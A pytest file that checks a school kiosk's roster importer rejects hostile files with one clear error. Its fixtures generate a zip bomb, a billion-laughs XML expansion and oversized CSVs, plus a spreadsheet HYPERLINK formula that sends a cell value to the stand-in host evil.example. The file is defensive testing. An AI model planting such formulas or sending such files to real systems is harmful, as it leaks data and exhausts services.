"""Files that no school should have, through `kiosk import` as it ships: one clear error each, little memory, nothing imported."""

from __future__ import annotations

import io
import json
import resource
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from kiosk.settings import shared_data_dir

MEMORY_BYTES = 1 << 30  # of address space: whoever unpacks a bomb does not get far
HEAD = ["学号", "姓名", "班级", "座号"]


def csv_of_fifty_megabytes() -> bytes:
    return "学号,姓名,班级,座号\n".encode() + "20240201,王小明,三(2)班,1\n".encode() * 1_500_000


def too_many_rows() -> bytes:
    return "学号,姓名,班级,座号\n".encode() + b"1,a,b,1\n" * 250_000


def one_endless_cell() -> bytes:
    return '学号,姓名,班级,座号\n1,"'.encode() + b"x" * 3_000_000


def workbook(change: Callable[[Any], None]) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = "学生"
    sheet.append(HEAD)
    for seat, name in enumerate(("王小明", "李雷", "韩梅", "丁一", "高远"), 1):
        sheet.append([f"2024020{seat}", name, "三(2)班", seat])
    change(sheet)
    classes = book.create_sheet("班级")
    classes.append(["班级", "学段", "入学年份", "教室", "放行门"])
    classes.append(["三(2)班", "小学", 2024, "302", "east"])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def formulas(sheet: Any) -> None:
    sheet["B3"] = '=HYPERLINK("http://evil.example/?"&A2,"学生")'
    sheet["D4"] = "=1/0"


def merged(sheet: Any) -> None:
    sheet.merge_cells("B3:B5")


def bomb() -> bytes:
    """A workbook with a sheet of a gigabyte, packed to a megabyte."""
    source, stream = zipfile.ZipFile(io.BytesIO(workbook(lambda sheet: None))), io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            if member.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(member.filename, source.read(member))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            for _ in range(1_024):
                part.write(b"<row>" * 209_715)
    return stream.getvalue()


def laughs() -> bytes:
    """A billion laughs: entities of entities."""
    source, stream = zipfile.ZipFile(io.BytesIO(workbook(lambda sheet: None))), io.BytesIO()
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            if member.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(member.filename, source.read(member))
        text = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{entities}]><worksheet>&l9;</worksheet>'
        archive.writestr("xl/worksheets/sheet1.xml", text)
    return stream.getvalue()


# name of the file, its bytes, how many problems, and words that the first sentence has
CASES: dict[str, tuple[str, Callable[[], bytes], int, str]] = {
    "fifty megabytes": ("学生.csv", csv_of_fifty_megabytes, 1, "MB"),
    "too many rows": ("学生.csv", too_many_rows, 1, "200,000"),
    "one endless cell": ("学生.csv", one_endless_cell, 1, ""),
    "formulas": ("学生.xlsx", lambda: workbook(formulas), 2, "公式"),
    "merged cells": ("学生.xlsx", lambda: workbook(merged), 1, "合并"),
    "a zip bomb": ("学生.xlsx", bomb, 1, "解压后"),
    "a billion laughs": ("学生.xlsx", laughs, 1, ""),
    "an old workbook": ("学生.xls", lambda: bytes.fromhex("D0CF11E0A1B11AE1") + bytes(5_000), 1, ".xls"),
    "a picture": ("学生.csv", lambda: b"\x89PNG\r\n\x1a\n" + bytes(9_000), 1, ""),
    "noise": ("学生.csv", lambda: bytes(range(256)) * 300, 1, ""),
    "nothing": ("学生.xlsx", lambda: b"", 1, ""),
}


def imported(path: Path, state: Path) -> subprocess.CompletedProcess[str]:
    command = [
        sys.executable,
        "-m",
        "kiosk",
        "import",
        "--config",
        str(shared_data_dir("sample_school")),
        "--state",
        str(state),
        "--json",
    ]
    return subprocess.run(
        [*command, str(path)], capture_output=True, text=True, check=False, timeout=100,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (MEMORY_BYTES, MEMORY_BYTES)),
    )  # fmt: skip


@pytest.mark.parametrize("case", CASES)
def test_a_hostile_file_is_one_clear_error_and_nothing_is_imported(case: str, tmp_path: Path) -> None:
    name, make, count, words = CASES[case]
    path, state = tmp_path / name, tmp_path / "state"
    path.write_bytes(make())
    done = imported(path, state)
    assert done.returncode == 1, done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    told = json.loads(done.stdout)
    assert not told["ok"] and told["published"] is None
    sentences = [str(problem) for problem in told["problems"]]
    assert len(sentences) == count, sentences
    assert words in sentences[0]
    assert not (state / "directory.db").exists()
